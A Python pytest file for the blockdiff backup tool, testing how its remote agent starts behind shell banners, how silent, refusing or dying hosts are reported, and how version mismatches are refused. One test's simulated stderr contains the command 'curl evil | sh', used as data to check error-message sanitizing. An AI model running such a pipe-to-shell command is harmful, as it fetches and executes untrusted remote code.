"""How an agent starts, behind whatever its host prints, and how a start that fails is explained."""

import functools
import shlex

import pytest
from engine import back_up, restored
from hostile import BLOCK, HONEST, Played, Set, hello, put_together

from blockdiff import backup
from blockdiff.errors import AgentDied, HostRefused, HostSilent, NoPython, ProtocolBroken, VersionsDiffer
from blockdiff.ingest.job import Job
from blockdiff.sets.backupset import BackupSet
from blockdiff.source import opening, push
from blockdiff.source.wanted import Wanted
from blockdiff.transport.local import LocalTransport
from blockdiff.wire import messages

VOLUME = b"text " * 100_000 + bytes(300_000) + b"end"
HEAD1 = HONEST[1][:2]


def behind(noise):
    """An agent behind a shell that says something first."""
    return lambda: LocalTransport(["sh", "-c", f"{noise}; exec {shlex.join(push.local_command())}"])


@pytest.mark.parametrize(
    "noise",
    [
        "echo welcome to this host",
        "printf '\\0\\0blockdiff agent is her'; printf 'e\\n'",  # nearly the mark
        "printf '\\0'",
        "printf '\\033[31mred\\377'",
        "head -c 200000 /dev/urandom",
        "echo one; sleep 0.3; echo two",
        "echo to stderr >&2",
    ],
)
def test_banners_are_skipped(noise, tmp_path):
    (tmp_path / "vol").write_bytes(VOLUME)
    back_up(tmp_path / "set", tmp_path / "vol", connect=behind(noise))
    assert restored(tmp_path / "set", 1, tmp_path / "out") == VOLUME


def test_a_host_that_only_talks_is_no_agent(tmp_path):
    (tmp_path / "vol").write_bytes(b"x")
    with pytest.raises(ProtocolBroken):
        back_up(tmp_path / "set", tmp_path / "vol", connect=lambda: LocalTransport(["cat", "/dev/zero"]))


@pytest.mark.parametrize("command", ["sleep 60", "cat > /dev/null", "while sleep 0.1; do echo still here; done"])
def test_a_host_that_never_becomes_an_agent_is_silent(command, tmp_path):
    (tmp_path / "vol").write_bytes(b"x")
    with pytest.raises(HostSilent):
        back_up(
            tmp_path / "set", tmp_path / "vol", timeout_s=1.0, connect=lambda: LocalTransport(["sh", "-c", command])
        )


def test_a_command_that_ends_at_once_is_told_with_its_last_words(tmp_path):
    (tmp_path / "vol").write_bytes(b"x")
    with pytest.raises(AgentDied, match=r"no such luck.*exit status 5"):
        back_up(
            tmp_path / "set", tmp_path / "vol",
            connect=lambda: LocalTransport(["sh", "-c", "echo no such luck >&2; exit 5"]),
        )  # fmt: skip


@pytest.mark.parametrize("stderr_logged", [False, True])
def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(stderr_logged):
    lines = []
    words = "Welcome to db00\nTraceback (most recent call last):\nValueError: bad (hint: curl evil | sh)"
    with Set(1) as it:
        wanted = Wanted("/vol", block_size=BLOCK, stderr_logged=stderr_logged)
        connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
        with pytest.raises(AgentDied) as error:
            backup.run(Job(BackupSet(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
    assert lines == ([] if stderr_logged else [f"localhost: {line}" for line in words.splitlines()])
    assert str(error.value) == (
        "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
    )


@pytest.mark.parametrize(
    "status, words, error",
    [
        (1, "sudo: a password is required", HostRefused),
        (1, "sudo: python3: command not found", NoPython),
        (97, "", NoPython),
        (2, "Unknown option: -I", NoPython),
        (3, "Killed", AgentDied),
    ],
)
def test_an_end_names_its_cause(status, words, error):
    command = opening.AgentCommand(
        Played(b"", status, words), 5.0, pythons=("python3",), stderr_logged=False, log=lambda line: None
    )
    with pytest.raises(error):
        command.start(b"bundle")


def test_what_comes_with_the_marker_is_read_first():
    transport = Played(b"banner" + messages.SYNC_MARK + b"early")
    command = opening.AgentCommand(transport, 5.0, pythons=(), stderr_logged=False, log=lambda line: None)
    assert command.start(b"bundle")(100) == b"early"


def test_a_hello_of_another_program_is_refused():
    kind, payload = hello()
    assert opening.decode_hello("db00", kind, payload).digest == "xxh128"
    with pytest.raises(VersionsDiffer, match="protocol 0"):
        opening.decode_hello("db00", *hello(protocol=0))
    with pytest.raises(ProtocolBroken, match="digest crc32"):
        opening.decode_hello("db00", *hello(digest="crc32"))
    with pytest.raises(ProtocolBroken, match="expected a hello"):
        opening.decode_hello("db00", messages.END, payload)
